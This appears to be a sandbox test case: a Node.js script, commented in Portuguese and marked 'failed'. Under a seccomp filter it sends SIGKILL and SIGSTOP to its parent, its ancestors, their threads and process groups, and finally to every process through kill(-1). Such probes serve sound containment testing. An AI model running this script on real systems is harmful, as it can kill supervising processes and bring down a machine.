// SIGKILL e SIGSTOP para o pai, os avós, as threads e os grupos deles; e, se o filtro está ligado, para todos.
// veredito: failed
var fs = require('fs');

function field(pid, name) {
  return Number((new RegExp('^' + name + ':\\s*(\\d+)', 'm').exec(fs.readFileSync('/proc/' + pid + '/status', 'utf8')) || [])[1]);
}

function attack(pid) {
  ['SIGKILL', 'SIGSTOP'].forEach(function (signal) {
    try {
      process.kill(pid, signal);
      console.log('acertei ' + pid);
    } catch (error) {
      if (error.code !== 'EPERM' && error.code !== 'ESRCH') console.log(pid + ': ' + error.code);
    }
  });
}

var filtered = field('self', 'Seccomp') === 2;
for (var pid = process.ppid; pid > 1 && filtered; pid = field(pid, 'PPid')) {
  fs.readdirSync('/proc/' + pid + '/task').map(Number).forEach(attack);
  attack(-pid);
}
if (filtered) attack(-1);
console.log('ainda aqui');
